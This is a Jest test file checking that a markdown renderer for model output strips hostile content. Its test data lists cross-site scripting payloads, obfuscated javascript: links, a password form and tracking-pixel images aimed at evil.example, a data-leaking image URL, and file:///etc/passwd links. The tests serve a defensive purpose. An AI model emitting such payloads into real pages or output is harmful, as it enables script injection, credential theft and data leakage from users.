import { describe, expect, test } from '@jest/globals';
import { MantineProvider } from '@mantine/core';
import { createElement } from 'react';
import { renderToStaticMarkup } from 'react-dom/server';
import { SafeMarkdown } from '../components/safe-markdown.tsx';

/** What a browser would be given, without the styles around it. */
const render = (text: string) => {
  const html = renderToStaticMarkup(
    createElement(MantineProvider, null, createElement(SafeMarkdown, { text })),
  );
  return html.replaceAll(/<style[\s\S]*?<\/style>/g, '');
};

const addresses = (html: string) =>
  [...html.matchAll(/\b(?:href|src)="([^"]*)"/g)].map((m) => m[1]);

describe('text of a model', () => {
  test.each([
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '<iframe src="https://evil.example"></iframe>',
    '<svg onload=alert(1)>',
    '<a href="javascript:alert(1)">x</a>',
    '<style>body{display:none}</style>',
    '<form action="https://evil.example"><input name=password></form>',
    '<details open ontoggle=alert(1)>x</details>',
    'a <b onmouseover="alert(1)">b</b> c',
    '<!-- --><math><mtext></mtext><script>alert(1)</script></math>',
  ])('never becomes markup: %s', (text) => {
    const html = render(text);
    expect(html).not.toMatch(
      /<(?:script|iframe|svg|style|form|input|details|math|object|embed)\b/i,
    );
    expect(html).not.toMatch(/<[^>]*\son\w+\s*=/i);
    expect(html).not.toContain('javascript:');
  });

  test.each([
    '![pixel](https://evil.example/track.png?who=me)',
    '![](http://evil.example/x.png "title")',
    '![x][ref]\n\n[ref]: https://evil.example/y.png',
    '[![nested](https://evil.example/z.png)](https://evil.example)',
  ])('loads no image: %s', (text) => {
    expect(render(text)).not.toContain('<img');
  });

  test.each([
    '[x](javascript:alert(1))',
    '[x](JaVaScRiPt:alert(1))',
    '[x](java\tscript:alert(1))',
    '[x](&#106;avascript:alert(1))',
    '[x](data:text/html;base64,PHNjcmlwdD4=)',
    '[x](vbscript:msgbox(1))',
    '[x](file:///etc/passwd)',
    '[x](blob:https://evil.example/1)',
    '<javascript:alert(1)>',
    '![x](javascript:alert(1))',
    '[x][ref]\n\n[ref]: javascript:alert(1)',
  ])('leads nowhere but to the web and to mail: %s', (text) => {
    expect(addresses(render(text))).toEqual([]);
  });

  test('follows a link to the web in another window, which learns nothing of this one', () => {
    const html = render('[docs](https://example.com/a?b=c)');
    expect(addresses(html)).toEqual(['https://example.com/a?b=c']);
    expect(html).toContain('target="_blank"');
    expect(html).toContain('rel="noopener noreferrer nofollow"');
  });

  test('of great size or depth is rendered', () => {
    for (const text of [
      '> '.repeat(2_000),
      '['.repeat(5_000),
      '* a\n'.repeat(5_000),
      '`'.repeat(9_999),
    ])
      expect(render(text).length).toBeGreaterThan(0);
  });
});
